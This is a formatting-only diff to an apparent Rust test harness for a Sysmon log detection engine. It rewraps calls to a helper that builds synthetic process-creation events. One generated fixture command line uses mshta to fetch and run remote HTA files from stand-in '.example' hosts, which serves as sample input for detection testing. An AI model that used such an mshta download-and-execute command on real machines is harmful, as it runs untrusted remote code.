@@ -36,7 +36,17 @@ fn utc(ms: i64) -> String {
 
 /// One Sysmon 1 line.
 #[allow(clippy::too_many_arguments)]
-fn start(host: &str, t: i64, guid: &str, pid: u64, image: &str, cmd: &str, pguid: &str, ppid: u64, pimage: &str) -> String {
+fn start(
+    host: &str,
+    t: i64,
+    guid: &str,
+    pid: u64,
+    image: &str,
+    cmd: &str,
+    pguid: &str,
+    ppid: u64,
+    pimage: &str,
+) -> String {
     let j = |s: &str| serde_json::to_string(s).unwrap_or_default();
     format!(
         r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":{},"UtcTime":"{}","ProcessGuid":{},"ProcessId":"{pid}","Image":{},"CommandLine":{},"ParentProcessGuid":{},"ParentProcessId":"{ppid}","ParentImage":{}}}"#,
@@ -123,7 +133,17 @@ fn run(case: &str, n: u64) -> Option<String> {
             let mut e = Engine::new(cfg).ok()?;
             let lines = (0..n).map(|i| {
                 let cmd = format!("mshta https://h{i}.example/p{}/a{i}.hta", "x".repeat((i % 7) as usize));
-                start("PC1", T0 + i as i64 * 10, &guid(10 + i), 10 + i, MSHTA, &cmd, &guid(0), 99, r"C:\Windows\explorer.exe")
+                start(
+                    "PC1",
+                    T0 + i as i64 * 10,
+                    &guid(10 + i),
+                    10 + i,
+                    MSHTA,
+                    &cmd,
+                    &guid(0),
+                    99,
+                    r"C:\Windows\explorer.exe",
+                )
             });
             push_lines(&mut e, lines, 1_000);
             summary(&e.finish())
@@ -131,7 +151,17 @@ fn run(case: &str, n: u64) -> Option<String> {
         "evict" => {
             let mut e = Engine::new(cfg).ok()?;
             let lines = (0..n).map(|i| {
-                start("PC1", T0 + i as i64, &guid(10 + i), 10 + i, CMD, "cmd /c x", &guid(0), 99, r"C:\Windows\explorer.exe")
+                start(
+                    "PC1",
+                    T0 + i as i64,
+                    &guid(10 + i),
+                    10 + i,
+                    CMD,
+                    "cmd /c x",
+                    &guid(0),
+                    99,
+                    r"C:\Windows\explorer.exe",
+                )
             });
             push_lines(&mut e, lines, 1_000);
             summary(&e.finish())
@@ -177,7 +207,8 @@ fn run(case: &str, n: u64) -> Option<String> {
         "coverage" => {
             let mut text = String::new();
             for h in 0..20 {
-                let _ = writeln!(text, "{}", start(&format!("H{h}"), T0, &guid(h + 5), h + 5, CMD, "x", &guid(0), 1, CMD));
+                let _ =
+                    writeln!(text, "{}", start(&format!("H{h}"), T0, &guid(h + 5), h + 5, CMD, "x", &guid(0), 1, CMD));
             }
             let r = analyze(text.as_bytes());
             let v = serde_json::to_value(&r.coverage).unwrap_or_default();
